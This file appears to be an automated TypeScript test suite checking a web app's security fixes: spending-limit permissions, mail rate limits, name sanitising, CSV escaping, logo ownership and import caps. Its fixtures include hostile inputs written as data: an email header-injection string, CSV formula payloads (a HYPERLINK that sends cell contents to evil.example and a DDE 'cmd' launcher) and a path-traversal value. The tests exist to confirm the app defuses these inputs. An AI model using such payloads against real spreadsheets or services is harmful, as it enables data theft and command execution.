/**
 * Issue 57, "Security (medium and low)" and "Where the API departs from the earlier issue texts":
 * each item's refusal or record, as an outside caller meets it.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { and, eq } from 'drizzle-orm';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { drizzle } from 'drizzle-orm/pglite';
import { migrate } from 'drizzle-orm/pglite/migrator';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPglite } from '../../src/server/db/pglite';
import { migrationsDir } from '../../src/server/paths';
import { auditEntries, briefTemplates, outletMetrics, publications, mailOutbox, organisations, orgClients, orgInvitations, reports, users } from '../../src/server/db/schema';
import { ORG_ROLES, type OrgRole } from '../../src/shared/org';
import { Agent, createTestApp, type TestApp } from '../support/app';
import { kinds, PASSWORD, signedIn, uniqueEmail } from '../support/factories';
import { createOpportunity, sessionIdOf } from '../support/payments';
import { purchase } from '../support/content';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
}, 60_000);
afterAll(async () => {
  await t?.close();
});

type Signed = Awaited<ReturnType<typeof signedIn>>;

/** An owner's organisation with one signed-in member of every other role (and a second admin). */
async function team() {
  const owner = await signedIn(t.app, t.db, kinds.approvedBrand);
  const orgId = owner.user.organisationId!;
  const members = { owner } as Record<OrgRole, Signed>;
  for (const role of ORG_ROLES.filter((r) => r !== 'owner')) {
    members[role] = await signedIn(t.app, t.db, { ...kinds.approvedBrand, name: `The ${role}`, organisationId: orgId, orgRole: role });
  }
  const admin2 = await signedIn(t.app, t.db, { ...kinds.approvedBrand, name: 'Second admin', organisationId: orgId, orgRole: 'admin' });
  return { orgId, members, admin2 };
}

const limitsOf = async (userId: string) => {
  const [row] = await t.db
    .select({ cap: users.monthlyCapUsd, threshold: users.approvalThresholdUsd })
    .from(users)
    .where(eq(users.id, userId));
  return row;
};

const setLimits = (agent: Agent, userId: string, cap: string | null, threshold: string | null) =>
  agent.put(`/api/org/members/${userId}/limits`, { monthlyCapUsd: cap, approvalThresholdUsd: threshold });

describe('member limits: set by someone above the member (issue 57)', () => {
  it('nobody changes their own limits or the owner’s, and only the owner changes an admin’s: 403, nothing changes', async () => {
    const { orgId, members, admin2 } = await team();
    const { owner, admin, buyer } = members;
    // the owner caps the admin and the buyer
    expect((await setLimits(owner.agent, admin.user.id, '500', '100')).status).toBe(204);
    expect((await setLimits(owner.agent, buyer.user.id, '300', null)).status).toBe(204);
    const auditBefore = await t.db.$count(auditEntries, and(eq(auditEntries.organisationId, orgId), eq(auditEntries.action, 'limits_changed')));

    const refusals: [Agent, string, string][] = [
      // an admin clears its own cap and threshold
      [admin.agent, admin.user.id, 'You cannot change your own limits'],
      // the owner's own, too
      [owner.agent, owner.user.id, 'You cannot change your own limits'],
      // an admin limits the owner
      [admin.agent, owner.user.id, 'The owner’s limits cannot be changed'],
      // an admin lifts another admin's
      [admin2.agent, admin.user.id, 'Only the owner can change an admin’s limits'],
    ];
    for (const [agent, target, message] of refusals) {
      const before = await limitsOf(target);
      const res = await setLimits(agent, target, null, '1');
      expect(res.status, res.text).toBe(403);
      expect(res.body.message).toBe(message);
      expect(await limitsOf(target)).toEqual(before);
    }
    expect(await limitsOf(admin.user.id)).toEqual({ cap: '500.00', threshold: '100.00' });
    expect(await limitsOf(owner.user.id)).toEqual({ cap: null, threshold: null });
    expect(await t.db.$count(auditEntries, and(eq(auditEntries.organisationId, orgId), eq(auditEntries.action, 'limits_changed')))).toBe(auditBefore);

    // what stays allowed: an admin sets a buyer's; the owner lifts an admin's
    expect((await setLimits(admin.agent, buyer.user.id, null, '50')).status).toBe(204);
    expect(await limitsOf(buyer.user.id)).toEqual({ cap: null, threshold: '50.00' });
    expect((await setLimits(owner.agent, admin.user.id, null, null)).status).toBe(204);
    expect(await limitsOf(admin.user.id)).toEqual({ cap: null, threshold: null });
  });
});

describe('mail relay limits per organisation and hour (issue 57)', () => {
  it('30 invitation mails an hour, invitations and resends together, even at once; a refused invitation does not count', async () => {
    const { orgId, members } = await team();
    const other = await team();
    const tag = `inv${orgId.slice(0, 8)}`;
    let n = 0;
    const address = () => `${tag}-${n++}@outside.example`;
    const mailed = async () =>
      (await t.db.select({ to: mailOutbox.toAddress }).from(mailOutbox).where(eq(mailOutbox.kind, 'org_invitation'))).filter((m) =>
        m.to.startsWith(`${tag}-`),
      ).length;

    // an address already a member's is refused (409) and counts nothing
    for (let i = 0; i < 3; i++) expect((await members.admin.agent.post('/api/org/invitations', { email: members.buyer.user.email, role: 'viewer' })).status).toBe(409);
    const first = await members.owner.agent.post('/api/org/invitations', { email: address(), role: 'viewer' });
    expect(first.status).toBe(201);
    for (let i = 0; i < 9; i++) expect((await members.owner.agent.post(`/api/org/invitations/${first.body.id}/resend`)).status).toBe(200);
    // 10 mails so far; 25 more at once from two members: exactly 20 get through
    const burst = await Promise.all(
      Array.from({ length: 25 }, (_, i) => (i % 2 ? members.owner : members.admin).agent.post('/api/org/invitations', { email: address(), role: 'buyer' })),
    );
    expect(burst.filter((r) => r.status === 201)).toHaveLength(20);
    const refused = burst.filter((r) => r.status === 429);
    expect(refused).toHaveLength(5);
    expect(refused[0].body.message).toBe('Your organisation has sent too many invitations. Please try again in an hour.');
    expect(Number(refused[0].headers['retry-after'])).toBeGreaterThan(59 * 60);
    expect(Number(refused[0].headers['retry-after'])).toBeLessThanOrEqual(3600);
    // a resend is refused too
    const resend = await members.owner.agent.post(`/api/org/invitations/${first.body.id}/resend`);
    expect(resend.status).toBe(429);
    expect(await mailed()).toBe(30);
    expect(await t.db.$count(orgInvitations, eq(orgInvitations.organisationId, orgId))).toBe(21);
    // another organisation has its own hour
    expect((await other.members.owner.agent.post('/api/org/invitations', { email: uniqueEmail('elsewhere'), role: 'viewer' })).status).toBe(201);
  }, 120_000);

  it('50 scheduled-report recipients an hour: each address a save adds, every one when the cadence is set or changed', async () => {
    const { members } = await team();
    const { owner, buyer } = members;
    const report = async (name: string) => {
      const res = await owner.agent.post('/api/org/reports', { name, columns: ['title'] });
      expect(res.status, res.text).toBe(201);
      return res.body.id as string;
    };
    const addresses = (prefix: string, n: number) => Array.from({ length: n }, (_, i) => `${prefix}-${i}@outside.example`);
    const schedule = (agent: Agent, id: string, cadence: string | null, recipients: string[]) =>
      agent.put(`/api/org/reports/${id}/schedule`, { cadence, recipients });
    const [a, b, c] = [await report('A'), await report('B'), await report('C')];
    expect((await schedule(owner.agent, a, 'weekly', addresses('a', 20))).status).toBe(200); // 20
    expect((await schedule(buyer.agent, b, 'monthly', addresses('b', 20))).status).toBe(200); // 40
    // the same addresses saved again, or stopping, add nobody
    expect((await schedule(owner.agent, a, 'weekly', addresses('a', 20))).status).toBe(200);
    expect((await schedule(owner.agent, c, null, addresses('c', 20))).status).toBe(200);
    // 20 more would be 60
    const refused = await schedule(owner.agent, c, 'weekly', addresses('c', 20));
    expect(refused.status).toBe(429);
    expect(refused.body.message).toBe('Your organisation has added too many report recipients. Please try again in an hour.');
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(59 * 60);
    const [stored] = await t.db.select({ cadence: reports.cadence, recipients: reports.recipients }).from(reports).where(eq(reports.id, c));
    expect(stored).toEqual({ cadence: null, recipients: [] });
    // 10 are still allowed: 50 in all
    expect((await schedule(owner.agent, c, 'weekly', addresses('c', 10))).status).toBe(200);
    // one new address, or a changed cadence (which mails every recipient at the next run), is refused
    expect((await schedule(owner.agent, a, 'weekly', [...addresses('a', 19), 'new@outside.example'])).status).toBe(429);
    expect((await schedule(buyer.agent, b, 'weekly', addresses('b', 20))).status).toBe(429);
    // fewer recipients, or none, are always fine
    expect((await schedule(owner.agent, a, 'weekly', addresses('a', 5))).status).toBe(200);
    expect((await schedule(buyer.agent, b, null, [])).status).toBe(200);
  });
});

describe('every name is one line (issue 57)', () => {
  // a header injection, a bell, a right-to-left override and a tab, wrapped in spaces and line breaks
  const HOSTILE = '\r\n Acme\r\nBcc: all@outside.example\u0007 \t Co\u202e\u2028 ';
  const CLEAN = 'Acme Bcc: all@outside.example Co';

  it('the profile’s name and company name (the organisation’s), a client’s, a report’s and a template’s name lose their breaks and control characters', async () => {
    // profile completion: the person's and the organisation's name
    const agent = new Agent(t.app);
    const email = uniqueEmail('oneline');
    expect((await agent.post('/api/register', { email, password: PASSWORD })).status).toBe(201);
    const completed = await agent.patch('/api/user/profile', { name: HOSTILE, brandName: HOSTILE, website: 'acme.example' });
    expect(completed.status, completed.text).toBe(200);
    expect(completed.body).toMatchObject({ name: CLEAN, brandName: CLEAN });
    const [user] = await t.db.select().from(users).where(eq(users.email, email));
    const [org] = await t.db.select({ name: organisations.name }).from(organisations).where(eq(organisations.id, user.organisationId!));
    expect(org.name).toBe(CLEAN);

    // an approved owner edits them, names a client, a report and a template
    const { members } = await team();
    const { owner } = members;
    const me = (await owner.agent.get('/api/user')).body;
    const edited = await owner.agent.patch('/api/user/profile', { name: `${HOSTILE}2`, brandName: `${HOSTILE}3`, website: me.website, baseVersion: me.version });
    expect(edited.status, edited.text).toBe(200);
    expect(edited.body).toMatchObject({ name: `${CLEAN} 2`, brandName: `${CLEAN} 3` });
    expect((await owner.agent.get('/api/org')).body.name).toBe(`${CLEAN} 3`);

    const client = await owner.agent.post('/api/org/clients', { name: HOSTILE });
    expect(client.status, client.text).toBe(201);
    expect(client.body.name).toBe(CLEAN);
    const renamed = await owner.agent.patch(`/api/org/clients/${client.body.id}`, { name: `Bolt\n${HOSTILE}` });
    expect(renamed.body.name).toBe(`Bolt ${CLEAN}`);
    expect((await t.db.select({ name: orgClients.name }).from(orgClients).where(eq(orgClients.id, client.body.id)))[0].name).toBe(`Bolt ${CLEAN}`);

    const report = await owner.agent.post('/api/org/reports', { name: HOSTILE, columns: ['title'] });
    expect(report.status, report.text).toBe(201);
    expect((await t.db.select({ name: reports.name }).from(reports).where(eq(reports.id, report.body.id)))[0].name).toBe(CLEAN);

    const template = await owner.agent.post('/api/brand/brief-templates', { name: HOSTILE });
    expect(template.status, template.text).toBe(201);
    expect(template.body.name).toBe(CLEAN);
    expect((await t.db.select({ name: briefTemplates.name }).from(briefTemplates).where(eq(briefTemplates.id, template.body.id)))[0].name).toBe(CLEAN);

    // a name of nothing but breaks and control characters is no name
    const empty = await owner.agent.post('/api/org/clients', { name: '\r\n\u0007\t' });
    expect(empty.status).toBe(400);
    expect(empty.body.errors).toEqual({ name: 'Client name is required' });
  });

  it('the name given when accepting an invitation is one line too', async () => {
    const { members } = await team();
    const email = uniqueEmail('joiner');
    expect((await members.owner.agent.post('/api/org/invitations', { email, role: 'viewer' })).status).toBe(201);
    const [mail] = await t.db.select({ data: mailOutbox.data }).from(mailOutbox).where(and(eq(mailOutbox.toAddress, email), eq(mailOutbox.kind, 'org_invitation')));
    const invitee = new Agent(t.app);
    expect((await invitee.post('/api/register', { email, password: PASSWORD })).status).toBe(201);
    const accepted = await invitee.post(`/api/invitations/${(mail.data as { token: string }).token}/accept`, { name: HOSTILE });
    expect(accepted.status, accepted.text).toBe(200);
    expect((await invitee.get('/api/user')).body.name).toBe(CLEAN);
  });
});

describe('every CSV guards against formulas (issue 57)', () => {
  const FORMULAS = {
    title: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    outlet: '+cmd|\' /C calc\'!A0',
    client: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  };

  it('a report’s CSV writes =, +, - and @ cells as text, like the audit log’s and the payments export', async () => {
    const owner = await signedIn(t.app, t.db, kinds.approvedBrand);
    const client = await owner.agent.post('/api/org/clients', { name: FORMULAS.client });
    expect(client.status, client.text).toBe(201);
    const opp = await createOpportunity(t.db, { title: FORMULAS.title, outletName: FORMULAS.outlet, priceUsd: '100.00' });
    const checkout = await owner.agent.post('/api/payments/checkout', { opportunityId: opp.id, clientId: client.body.id });
    expect(checkout.status, checkout.text).toBe(200);
    expect((await owner.agent.post(`/api/payments/checkout/${sessionIdOf(checkout.body.url)}/pay`)).status).toBe(200);
    const report = await owner.agent.post('/api/org/reports', { name: '-2+3', columns: ['outlet', 'title', 'client', 'price'], showPrices: true });
    expect(report.status, report.text).toBe(201);

    const csv = await owner.agent.get(`/api/org/reports/${report.body.id}/csv`);
    expect(csv.status).toBe(200);
    const [header, line] = parseCsv(csv.text) as string[][];
    expect(header).toEqual(['Outlet', 'Article', 'Client', 'Price']);
    expect(line).toEqual([`'${FORMULAS.outlet}`, `'${FORMULAS.title}`, `'${FORMULAS.client}`, '$100.00']);
    // nothing in the file starts a cell with a formula
    for (const cell of line) expect(cell).not.toMatch(/^[=+\-@]/);

    // the audit log's CSV, through the same helper: the client added is its entry's subject
    const audit = parseCsv((await owner.agent.get('/api/org/audit.csv')).text) as string[][];
    expect(audit.find((r) => r[3].startsWith('Added the client'))?.[4]).toBe(`'${FORMULAS.client}`);
    for (const cell of audit.flat()) expect(cell).not.toMatch(/^[=+\-@]/);
  });
});

describe('a white-label report’s logo is one its organisation uploaded for reports (issue 57)', () => {
  // two different 1×1 PNGs: each organisation's logo, told apart by their bytes
  const PNG_A = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
  const PNG_B = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');
  const inlined = (page: string, bytes: Buffer) => page.includes(bytes.toString('base64'));
  const whiteLabel = (logoFile: string) => ({ name: 'Client report', columns: ['title'], whiteLabel: { logoFile, color: '#112233', footer: 'Northwind' } });
  const sharePage = async (agent: Agent, reportId: string) => {
    const share = await agent.post(`/api/org/reports/${reportId}/shares`, {});
    expect(share.status, share.text).toBe(201);
    const page = await new Agent(t.app).get(new URL(share.body.url).pathname);
    expect(page.status).toBe(200);
    return page.text;
  };

  it('another organisation’s logo, an avatar or any other stored file is refused; its own is inlined on the share page', async () => {
    const a = await signedIn(t.app, t.db, kinds.approvedBrand);
    const b = await signedIn(t.app, t.db, kinds.approvedBrand);
    const logoA = await a.agent.upload('/api/org/reports/logo', 'logo', PNG_A, 'a.png', 'image/png');
    expect(logoA.status, logoA.text).toBe(200);
    const logoB = await b.agent.upload('/api/org/reports/logo', 'logo', PNG_B, 'b.png', 'image/png');
    const avatarB = await b.agent.upload('/api/upload/avatar', 'avatar', PNG_B, 'me.png', 'image/png');
    expect(avatarB.status, avatarB.text).toBe(200);

    // another organisation's logo, or a file of its own that is no report logo: 404, no report made
    for (const logoFile of [logoA.body.url, avatarB.body.url]) {
      const res = await b.agent.post('/api/org/reports', whiteLabel(logoFile));
      expect(res.status, res.text).toBe(404);
      expect(res.body.message).toBe('Logo not found: upload it again');
    }
    // anything not named as an upload's own id (a PNG or JPEG): 400
    for (const logoFile of ['/uploads/../data/db', '/uploads/logo.svg', `${logoB.body.url}?x=1`, logoB.body.url.replace('.png', '.gif')]) {
      const res = await b.agent.post('/api/org/reports', whiteLabel(logoFile));
      expect(res.status, `${logoFile}: ${res.text}`).toBe(400);
      expect(res.body.errors).toHaveProperty(['whiteLabel.logoFile']);
    }
    expect(await t.db.$count(reports, eq(reports.organisationId, b.user.organisationId!))).toBe(0);

    const own = await b.agent.post('/api/org/reports', whiteLabel(logoB.body.url));
    expect(own.status, own.text).toBe(201);
    const page = await sharePage(b.agent, own.body.id);
    expect(inlined(page, PNG_B)).toBe(true);
  });

  it('a report stored naming another organisation’s file (before the fix) never shows it: not on the share page, not in the PDF', async () => {
    const a = await signedIn(t.app, t.db, kinds.approvedBrand);
    const b = await signedIn(t.app, t.db, kinds.approvedBrand);
    const logoA = await a.agent.upload('/api/org/reports/logo', 'logo', PNG_A, 'a.png', 'image/png');
    const made = await b.agent.post('/api/org/reports', { name: 'Borrowed', columns: ['title'], whiteLabel: { color: '#112233' } });
    expect(made.status, made.text).toBe(201);
    await t.db.update(reports).set({ whiteLabel: { logoFile: logoA.body.url, color: '#112233', footer: null } }).where(eq(reports.id, made.body.id));
    expect(inlined(await sharePage(b.agent, made.body.id), PNG_A)).toBe(false);
    const pdf = await t.app.inject({ method: 'GET', url: `/api/org/reports/${made.body.id}/pdf`, headers: { cookie: b.agent.cookie! } });
    expect(pdf.statusCode).toBe(200);
    // the only image a report's PDF can hold is its logo
    const hasImage = (bytes: Buffer) => bytes.includes('/Subtype /Image');
    expect(hasImage(pdf.rawPayload)).toBe(false);
    // its own organisation's report shows it
    const mine = await a.agent.post('/api/org/reports', whiteLabel(logoA.body.url));
    expect(inlined(await sharePage(a.agent, mine.body.id), PNG_A)).toBe(true);
    const minePdf = await t.app.inject({ method: 'GET', url: `/api/org/reports/${mine.body.id}/pdf`, headers: { cookie: a.agent.cookie! } });
    expect(hasImage(minePdf.rawPayload)).toBe(true);
  });

  it('the migration keeps the logos reports named that their own organisation uploaded, and drops any other', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'byline-logos-'));
    const before = path.join(dir, 'before');
    cpSync(migrationsDir, before, { recursive: true });
    const journalPath = path.join(before, 'meta', '_journal.json');
    const journal = JSON.parse(readFileSync(journalPath, 'utf8')) as { entries: { tag: string }[] };
    const at = journal.entries.findIndex((e) => e.tag.endsWith('_report_logos'));
    expect(at).toBeGreaterThan(0);
    writeFileSync(journalPath, JSON.stringify({ ...journal, entries: journal.entries.slice(0, at) }));
    const pglite = await createPglite();
    try {
      const pdb = drizzle(pglite);
      await migrate(pdb, { migrationsFolder: before });
      const id = (n: number) => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`;
      const file = (c: string, ext = 'png') => `${c.repeat(32)}.${ext}`;
      await pglite.exec(`
        INSERT INTO organisations (id, name, approved) VALUES ('${id(1)}', 'A', true), ('${id(2)}', 'B', true);
        INSERT INTO users (id, email, password, role, name, approved, organisation_id, org_role) VALUES
          ('${id(11)}', 'a@example.com', 'x', 'brand', 'Ann', true, '${id(1)}', 'owner'),
          ('${id(12)}', 'b@example.com', 'x', 'brand', 'Bob', true, '${id(2)}', 'owner'),
          ('${id(13)}', 'admin@example.com', 'x', 'admin', 'Ada', true, NULL, NULL);
        INSERT INTO uploads (name, owner_id, kind, bytes) VALUES
          ('${file('a')}', '${id(11)}', 'image', 10), ('${file('b')}', '${id(13)}', 'image', 10),
          ('${file('c', 'svg')}', '${id(11)}', 'image', 10), ('${file('d')}', '${id(11)}', 'avatar', 10),
          ('${file('e')}', '${id(11)}', 'image', 10);
        INSERT INTO reports (id, organisation_id, name, columns, white_label, unsubscribe_key, created_by) VALUES
          ('${id(21)}', '${id(1)}', 'Own', '{title}', '{"logoFile": "/uploads/${file('a')}", "color": null, "footer": null}', 'k1', '${id(11)}'),
          ('${id(22)}', '${id(2)}', 'Borrowed', '{title}', '{"logoFile": "/uploads/${file('a')}", "color": null, "footer": null}', 'k2', '${id(12)}'),
          ('${id(23)}', '${id(1)}', 'Opportunity logo', '{title}', '{"logoFile": "/uploads/${file('b')}", "color": null, "footer": null}', 'k3', '${id(11)}'),
          ('${id(24)}', '${id(1)}', 'SVG', '{title}', '{"logoFile": "/uploads/${file('c', 'svg')}", "color": "#000000", "footer": null}', 'k4', '${id(11)}'),
          ('${id(25)}', '${id(1)}', 'Avatar', '{title}', '{"logoFile": "/uploads/${file('d')}", "color": null, "footer": null}', 'k5', '${id(11)}'),
          ('${id(26)}', '${id(2)}', 'Stolen', '{title}', '{"logoFile": "/uploads/${file('e')}", "color": null, "footer": null}', 'k6', '${id(12)}');
      `);
      await migrate(pdb, { migrationsFolder: migrationsDir });
      const rows = async (text: string) => (await pglite.query<Record<string, unknown>>(text)).rows;
      expect(await rows('SELECT name, kind, organisation_id FROM uploads ORDER BY name')).toEqual([
        { name: file('a'), kind: 'report_logo', organisation_id: id(1) },
        { name: file('b'), kind: 'image', organisation_id: null },
        { name: file('c', 'svg'), kind: 'image', organisation_id: null },
        { name: file('d'), kind: 'avatar', organisation_id: null },
        { name: file('e'), kind: 'image', organisation_id: null },
      ]);
      expect(await rows(`SELECT name, white_label->>'logoFile' AS logo, white_label->>'color' AS color FROM reports ORDER BY name`)).toEqual([
        { name: 'Avatar', logo: null, color: null },
        { name: 'Borrowed', logo: null, color: null },
        { name: 'Opportunity logo', logo: null, color: null },
        { name: 'Own', logo: `/uploads/${file('a')}`, color: null },
        { name: 'SVG', logo: null, color: '#000000' },
        { name: 'Stolen', logo: null, color: null },
      ]);
    } finally {
      await pglite.close();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 180_000);
});

describe('the metrics import: at most 50,000 rows (issue 57)', () => {
  const ahrefs = (rows: number, prefix: string) =>
    Buffer.from(['Target,Domain Rating', ...Array.from({ length: rows }, (_, i) => `${prefix}${i}.example,${i % 100}`)].join('\n'));
  const importAs = (agent: Agent, file: Buffer, dryRun: boolean) =>
    agent.upload(`/api/admin/outlets/metrics/import?source=ahrefs${dryRun ? '&dryRun=1' : ''}`, 'file', file, 'export.csv', 'text/csv');

  it('a file of 50,001 rows (well under 10 MB) is refused whole with 413, dry run or not; 50,000 are read', async () => {
    const { agent: admin } = await signedIn(t.app, t.db, kinds.admin);
    const known = await createOpportunity(t.db, { title: 'Known', outletName: 'Known', outletUrl: 'https://cap0.example/' });
    const metricsBefore = await t.db.$count(outletMetrics);
    const tooMany = ahrefs(50_001, 'cap');
    expect(tooMany.length).toBeLessThan(1024 * 1024);
    for (const dryRun of [true, false]) {
      const res = await importAs(admin, tooMany, dryRun);
      expect(res.status, res.text.slice(0, 300)).toBe(413);
      const message = 'This file has more than 50,000 rows: split it into files of at most 50,000 rows and import each';
      expect(res.body).toEqual({ message, code: 'metrics_file_too_large', errors: { file: message } });
    }
    expect(await t.db.$count(outletMetrics)).toBe(metricsBefore);

    // exactly 50,000: read, and its one known outlet changes
    const res = await importAs(admin, ahrefs(50_000, 'cap'), false);
    expect(res.status, res.text.slice(0, 300)).toBe(200);
    expect(res.body).toMatchObject({ applied: true, rows: 50_000, errors: [] });
    expect(res.body.changes).toEqual([expect.objectContaining({ host: 'cap0.example', outletId: known.outletId, metric: 'dr', to: 0 })]);
    expect(res.body.unmatched).toHaveLength(49_999);
  }, 180_000);
});

describe('a release by the spec’s call, without a live URL, is on the record (issue 57)', () => {
  it('keeps the spec’s answer; the publication, the timeline, the audit log and the Admin Payments row say what it went without', async () => {
    const owner = await signedIn(t.app, t.db, kinds.approvedBrand);
    const admin = await signedIn(t.app, t.db, { ...kinds.admin, name: 'Eddie Editor' });
    const orgId = owner.user.organisationId!;
    const unapproved = await purchase(t.db, owner.user.id, { draftReviewStatus: 'pending_brand_review', draftDocumentUrl: 'https://docs.google.com/document/d/u' });
    const approved = await purchase(t.db, owner.user.id, { draftReviewStatus: 'approved', draftDocumentUrl: 'https://docs.google.com/document/d/a' });

    // the spec's two calls, each with no body: the money is released as the spec says
    const first = await admin.agent.post(`/api/admin/payments/${unapproved.id}/release`);
    expect(first.status, first.text).toBe(200);
    expect(first.body).toMatchObject({ id: unapproved.id, status: 'released' });
    const second = await admin.agent.patch(`/api/admin/payments/${approved.id}/status`, { status: 'released' });
    expect(second.status, second.text).toBe(200);
    expect(second.body).toMatchObject({ id: approved.id, status: 'released' });

    const without = async (id: string) =>
      (await t.db.select({ w: publications.releasedWithout }).from(publications).where(eq(publications.placementId, id)))[0].w;
    expect(await without(unapproved.id)).toEqual(['live_url', 'approval']);
    expect(await without(approved.id)).toEqual(['live_url']);

    // the timeline: the admin's entry says it, on the admin's and the brand's side
    for (const [agent, side] of [[admin.agent, 'admin'], [owner.agent, 'brand']] as const) {
      const timeline = await agent.get(`/api/${side}/projects/${unapproved.id}/timeline`);
      expect(timeline.status, timeline.text).toBe(200);
      const published = timeline.body.find((e: { kind: string }) => e.kind === 'published');
      expect(published).toMatchObject({ actor: { type: 'admin' }, details: { url: null, without: ['live_url', 'approval'] } });
    }
    const approvedTimeline = (await admin.agent.get(`/api/admin/projects/${approved.id}/timeline`)).body;
    expect(approvedTimeline.find((e: { kind: string }) => e.kind === 'published').details.without).toEqual(['live_url']);

    // the organisation's audit log: who released which placement without what
    const audit = await t.db.select().from(auditEntries).where(eq(auditEntries.organisationId, orgId));
    expect(audit.filter((a) => a.action.startsWith('released_')).map((a) => ({ action: a.action, subject: a.subject, actor: a.actorEmail, name: a.actorName }))).toEqual(
      expect.arrayContaining([
        { action: 'released_without_approval', subject: unapproved.id, actor: admin.user.email, name: 'Eddie Editor' },
        { action: 'released_without_live_url', subject: approved.id, actor: admin.user.email, name: 'Eddie Editor' },
      ]),
    );
    const listed = await owner.agent.get('/api/org/audit?action=released_without_approval');
    expect(listed.body).toEqual([expect.objectContaining({ action: 'released_without_approval', subject: unapproved.id })]);

    // the admin's views: the placement's page and the Admin Payments row
    const page = await admin.agent.get(`/api/admin/projects/${unapproved.id}`);
    expect(page.body.publication).toMatchObject({ url: null, releasedWithout: ['live_url', 'approval'] });
    const rows = (await admin.agent.get(`/api/admin/payments?q=${encodeURIComponent(owner.user.email)}`)).body as { id: string; releasedWithout: string[] }[];
    expect(Object.fromEntries(rows.map((r) => [r.id, r.releasedWithout]))).toEqual({ [unapproved.id]: ['live_url', 'approval'], [approved.id]: ['live_url'] });
  });
});

describe('GET /api/org before the organisation is approved (issue 57)', () => {
  it('its owner reads it with approved: false; every other organisation route waits for the approval', async () => {
    const pending = await signedIn(t.app, t.db, { ...kinds.pendingBrand, brandName: 'Waiting Co' });
    const res = await pending.agent.get('/api/org');
    expect(res.status, res.text).toBe(200);
    expect(res.body).toEqual({ id: pending.user.organisationId, name: 'Waiting Co', approved: false, role: 'owner', clientIds: null, memberCount: 1 });
    for (const url of ['/api/org/members', '/api/org/clients', '/api/org/spend', '/api/org/audit', '/api/org/reports']) {
      const refused = await pending.agent.get(url);
      expect(refused.status, url).toBe(403);
      expect(refused.body.message).toBe('Your account is awaiting approval');
    }
    expect((await pending.agent.post('/api/org/invitations', { email: uniqueEmail(), role: 'viewer' })).status).toBe(403);

    // a brand that has not completed its profile has no organisation yet
    const unnamed = await signedIn(t.app, t.db, kinds.unnamedBrand);
    const none = await unnamed.agent.get('/api/org');
    expect(none.status).toBe(403);
    expect(none.body.message).toBe('Please complete your profile first');
    // admins have none either; visitors are asked to sign in
    expect((await (await signedIn(t.app, t.db, kinds.admin)).agent.get('/api/org')).status).toBe(403);
    expect((await new Agent(t.app).get('/api/org')).status).toBe(401);

    // once the editorial team approves it
    const admin = await signedIn(t.app, t.db, kinds.admin);
    const approved = await admin.agent.post(`/api/admin/approve-brand/${pending.user.id}`);
    expect(approved.status, approved.text).toBeLessThan(300);
    expect((await pending.agent.get('/api/org')).body).toMatchObject({ approved: true, name: 'Waiting Co' });
    expect((await pending.agent.get('/api/org/members')).status).toBe(200);
  });
});
